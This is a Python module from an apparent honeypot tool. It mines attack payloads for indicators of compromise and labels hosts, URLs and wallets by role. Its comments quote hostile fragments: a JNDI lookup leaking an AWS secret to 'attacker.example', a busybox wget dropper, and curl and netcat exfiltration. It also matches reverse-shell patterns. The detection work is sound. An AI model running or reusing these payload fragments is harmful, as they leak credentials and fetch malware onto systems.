"""Find the infrastructure a payload reveals, and the part each piece plays.

Roles: ``download`` (where a dropper fetches from), ``callback`` (JNDI/LDAP/RMI/DNS lookups the
exploit makes the victim perform), ``c2`` (reverse-shell targets), ``miner-pool`` (stratum
pools, known pool domains, and the wallets mining to them), ``exfil`` (where data is sent:
``curl -d @file``, ``$(whoami)`` in a callback host, a file piped into ``nc``), ``unknown``.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Iterable

from honeyguard.detect.iocs import anchored
from honeyguard.detect.iocs import gates as G
from honeyguard.detect.iocs import patterns as P
from honeyguard.detect.iocs.downloads import download_ops
from honeyguard.detect.iocs.hosts import NOT_IP, ROUTABLE, host_like, ip_kind, is_domain, pool_role
from honeyguard.detect.iocs.layers import layers
from honeyguard.model import Ioc
from honeyguard.model.event import IocRole

MAX_IOCS = 64
_ROLE_RANK: dict[str, int] = {"unknown": 0, "download": 2, "miner-pool": 3, "exfil": 3, "callback": 4, "c2": 4}
_BENIGN_SUFFIXES = ("w3.org", "xmlsoap.org", "openxmlformats.org", "schemas.microsoft.com", "purl.org",
                    "java.sun.com", "springframework.org", "apache.org")
_LOOKUP = re.compile(rb"\$\{[^{}]{0,256}\}")
_DOCKER_IMAGE = re.compile(rb"\"Image\"\s*:\s*\"([^\"\s]{1,256})\"")
_WHITESPACE = re.compile(rb"\s")
_HASH_CONTEXT = re.compile(rb"(?:sha256|sha1|md5|hash|checksum)[\"':= ]{0,4}$", re.I)


class _Collector:
    def __init__(self, ignore: frozenset[str], limit: int) -> None:
        self.found: dict[tuple[str, str], str] = {}
        self.ignore = ignore
        self.limit = limit
        self.plus_is_space = False  # mining form-encoded text as sent: '+' ends a URL
        self._seen: set[tuple[object, ...]] = set()
        # the layers of one payload repeat each other, and the same URL or host is met by several
        # extractors: met again with a role of no higher rank, every add it makes is a no-op (a
        # role only ever moves up, and a full table stays full), so its parsing is skipped
        self._host_ranks: dict[tuple[bytes, bytes | None], int] = {}
        self._url_ranks: dict[tuple[bytes, bool], int] = {}

    def first_time(self, *key: object) -> bool:
        """True the first time ``key`` (a piece of text and what mines it) is seen: the collector's
        calls for a piece already mined would all be no-ops."""
        key = (*key, self.plus_is_space)
        if key in self._seen:
            return False
        self._seen.add(key)
        return True

    def add(self, kind: str, value: str, role: str) -> None:
        if not value or value.lower() in self.ignore:
            return
        key = (kind, value)
        old = self.found.get(key)
        if old is None:
            if len(self.found) < self.limit:
                self.found[key] = role
        elif _ROLE_RANK[role] > _ROLE_RANK[old]:
            self.found[key] = role

    def host(self, host: bytes, port: bytes | None, role: str) -> None:
        rank, seen = _ROLE_RANK[role], (host, port)
        if self._host_ranks.get(seen, -1) >= rank:
            return
        self._host_ranks[seen] = rank
        name = host.decode("latin-1").strip("[]").rstrip(".").lower()
        kind = ip_kind(name)
        if kind is not NOT_IP:
            if kind is ROUTABLE:
                self.add("ip", name, role)
            else:
                return
        elif is_domain(name):
            if role == "unknown" and name.endswith(_BENIGN_SUFFIXES):
                return
            self.add("domain", name, pool_role(name, role))
        else:
            return
        if port and name.lower() not in self.ignore and 0 < int(port) < 65536:
            self.add("port", str(int(port)), role)

    def url(self, url: bytes, role: str) -> None:
        rank, seen = _ROLE_RANK[role], (url, self.plus_is_space)
        if self._url_ranks.get(seen, -1) >= rank:
            return
        self._url_ranks[seen] = rank
        if self.plus_is_space:
            url = url.split(b"+", 1)[0]
        parsed = _parsed_url(url)
        if parsed is None:
            return
        text, stratum, host, port, name = parsed
        if stratum:
            role = "miner-pool"
        if name in self.ignore:
            return
        if role == "unknown" and name.endswith(_BENIGN_SUFFIXES):
            return
        self.add("url", text, role)
        self.host(host, port, role)


_ParsedUrl = tuple[str, bool, bytes, bytes | None, str]


@functools.lru_cache(maxsize=1024)
def _parsed_url(url: bytes) -> _ParsedUrl | None:
    """``url`` without trailing punctuation, as text; whether its scheme is stratum; its host, port
    and host name lower-cased; None when it has no host. Dropper URLs repeat across requests that
    differ elsewhere: memoised (bounded, pure; a URL is at most about 2 KB)."""
    url = url.rstrip(b".,:'\")")
    # no '@': the user-info group cannot match, and a pattern without it backtracks less
    parts = (P.URL_PARTS if b"@"[0] in url else P.URL_PARTS_NO_USERINFO).match(url)
    if parts is None:
        return None
    host = parts.group(2)
    return (url.decode("latin-1"), parts.group(1).lower().startswith(b"stratum"), host, parts.group(3),
            host.decode("latin-1").lower())


def extract_iocs(texts: Iterable[bytes], *, host: bytes = b"", limit: int = MAX_IOCS,
                 endpoints: Iterable[tuple[bytes, bytes, IocRole]] = ()) -> list[Ioc]:
    """IOCs in ``texts`` and in every decoding of them; ``host`` (the victim's own name) is left out.

    ``endpoints`` are (host, port, role) the caller already knows the part of (a Redis rogue
    master): each gives its host and port, and ``endpoint`` ``host:port``, with that role.
    """
    found = _Collector(_own_names(host), limit)
    for peer, port, role in endpoints:
        _endpoint(peer, port, role, found)
    for text in texts:
        if not text:
            continue
        # form and query encoding: '+' is a space (busybox+wget+http://x/m+-O+/tmp/m); such text
        # has no raw whitespace. It is mined decoded, then as sent (base64 keeps its '+').
        plus_encoded = b"+" in text and _WHITESPACE.search(text) is None
        if plus_encoded:
            for layer, open_gates in layers(text.replace(b"+", b" ")):
                _extract_layer(layer, open_gates, found)
        found.plus_is_space = plus_encoded
        for layer, open_gates in layers(text):
            _extract_layer(layer, open_gates, found)
        found.plus_is_space = False
    return [Ioc(type=kind, value=value, role=_role(role)) for (kind, value), role in found.found.items()]


@functools.lru_cache(maxsize=256)
def _own_names(host: bytes) -> frozenset[str]:
    """The victim's own name (its Host header) with and without the port: never an IOC. A sensor
    answers under a few names: memoised."""
    own = host.decode("latin-1").strip().lower()
    return frozenset({own, own.rsplit(":", 1)[0].strip("[]")} - {""})


def _endpoint(peer: bytes, port: bytes, role: str, found: _Collector) -> None:
    port = port if port.isdigit() and len(port) <= 5 and 0 < int(port) < 65536 else b""
    before = len(found.found)
    found.host(peer, port or None, role)
    if len(found.found) > before and port:  # the host was kept (routable, a real name)
        name = peer.decode("latin-1").strip("[]").rstrip(".").lower()
        shown = f"[{name}]" if ":" in name else name
        found.add("endpoint", f"{shown}:{int(port)}", role)


def _role(role: str) -> IocRole:
    for known in ("download", "callback", "c2", "miner-pool", "exfil"):
        if role == known:
            return known
    return "unknown"


def _extract_layer(text: bytes, open_gates: set[int], found: _Collector) -> None:
    """Each extractor runs only when its gate is open (one Hyperscan pass decided)."""
    if not found.first_time("layer", text):  # another text of the subject decoded to this one
        return
    if G.JNDI in open_gates:
        _jndi(text, found)
    lower = text.lower()
    if G.SHELL in open_gates or G.NC in open_gates:
        _reverse_shells(text, lower, found)
    if G.DOWNLOAD in open_gates:
        _downloads(text, lower, found)
    if G.MINER in open_gates:
        _mining(text, lower, found)
    if G.URL in open_gates:
        if b"swp_url" in lower:
            for url in P.FETCH_PARAM.findall(text):  # before 'unknown': a fetched URL is a download
                found.url(url, "download")
        for url in anchored.urls(text):
            found.url(url, "unknown")
    if G.IPV4 in open_gates:
        for ip in anchored.ipv4s(text):
            found.host(ip, None, "unknown")
    if G.IMAGE in open_gates:
        for image in _DOCKER_IMAGE.findall(text):
            found.add("container-image", image.decode("latin-1"), "download")
    if G.HASH in open_gates:
        for hashed in P.HASH.finditer(text):
            if _HASH_CONTEXT.search(text, max(0, hashed.start() - 12), hashed.start()):
                value = hashed.group().decode("latin-1").lower()
                found.add({32: "md5", 40: "sha1", 64: "sha256"}[len(value)], value, "unknown")


def _jndi(text: bytes, found: _Collector) -> None:
    if b"${" not in text:
        return
    for match in P.JNDI.finditer(text):
        rest = _until_closing_brace(text, match.start(2))
        scheme = match.group(1).lower()
        embedded = b"${" in rest  # ${env:AWS_SECRET_ACCESS_KEY}.attacker.example: data leaves in the name
        authority = rest.split(b"/", 1)[0]
        plain = _LOOKUP.sub(b"", authority).lstrip(b".")
        host, _, port = plain.rpartition(b":") if plain.count(b":") == 1 else (plain, b"", b"")
        role = "exfil" if embedded else "callback"
        found.add("url", (scheme + b"://" + rest).decode("latin-1"), role)
        if host:
            found.host(host, port if port.isdigit() else None, role)


def _until_closing_brace(text: bytes, start: int) -> bytes:
    depth = 1
    for index in range(start, min(len(text), start + 1024)):
        char = text[index]
        if char == 0x7B:  # '{'
            depth += 1
        elif char == 0x7D:  # '}'
            depth -= 1
            if depth == 0:
                return text[start:index]
        elif char in b" \t\r\n\"'":
            return text[start:index]
    return text[start:start + 1024]


def _reverse_shells(text: bytes, lower: bytes, found: _Collector) -> None:
    for regex, mark in ((P.DEV_TCP, b"/dev/"), (P.SOCAT, b":"), (P.PY_CONNECT, b"connect((")):
        if mark in lower:
            for host, port in regex.findall(text):
                found.host(host, port, "c2")
    if not any(word in lower for word in (b"nc ", b"ncat", b"netcat")):
        return
    for match in P.NC_CMD.finditer(text):
        piped, args = bool(match.group(1)), match.group(3)
        executes = re.search(rb"\s-[a-z]*[ec]\b|\|\s*(?:/bin/)?(?:ba)?sh\b", args, re.I) is not None
        role = "c2" if executes or not piped else "exfil"
        hosts = [m for m in P.HOST_TOKEN.finditer(args) if host_like(m.group(1))]
        if not hosts:
            continue
        first = hosts[0]
        port = first.group(2)
        if port is None:
            later = P.PORT_TOKEN.search(args, first.end())
            port = later.group(1) if later else None
        found.host(first.group(1), port, role)


def _downloads(text: bytes, lower: bytes, found: _Collector) -> None:
    for match in anchored.download_commands(text, lower):
        tool, args = match.group(1).lower(), match.group(2)
        if not found.first_time("download", tool, args):  # the same command in another layer
            continue
        for is_url, value, port, role in download_ops(tool, args):
            if is_url:
                found.url(value, role)
            else:
                found.host(value, port, role)


# a word of each alternative of P.MINER_CONTEXT; each byte as 'a' (a letter or digit) or ' '
_MINER_WORDS = (b"xmr", b"stratum", b"minerd", b"cpuminer", b"nicehash", b"--donate-level", b"pool", b"wallet",
                b"-u", b"monero", b"cryptonight", b"randomx")
_ALNUM_CLASSES = bytes(ord("a") if chr(b).isascii() and chr(b).isalnum() else ord(" ") for b in range(256))


def _mining(text: bytes, lower: bytes, found: _Collector) -> None:
    """Wallets and pools, only where the text speaks of mining (a wallet alone is rarely one).

    Each regex (tried at every byte) runs only when the text holds what its match needs: a run of
    letters and digits as long as the wallet, 'bc1', '0x', '-o' or '--url'."""
    if not any(word in lower for word in _MINER_WORDS) or P.MINER_CONTEXT.search(text) is None:
        return
    runs = text.translate(_ALNUM_CLASSES)
    if b"a" * 95 in runs:
        for wallet in P.MONERO.findall(text):
            found.add("wallet", wallet.decode("latin-1"), "miner-pool")
    if b"bc1" in text:
        for wallet in P.BITCOIN_BECH32.findall(text):
            found.add("wallet", wallet.decode("latin-1"), "miner-pool")
    if b"-o" in lower or b"--url" in lower:
        for host, port in P.STRATUM_HOSTPORT.findall(text):
            found.host(host, port, "miner-pool")
    for regex, needs in ((P.BITCOIN_LEGACY, b"a" * 26 in runs), (P.ETHEREUM, b"0x" in text)):
        for wallet in regex.findall(text) if needs else ():
            found.add("wallet", wallet.decode("latin-1"), "miner-pool")
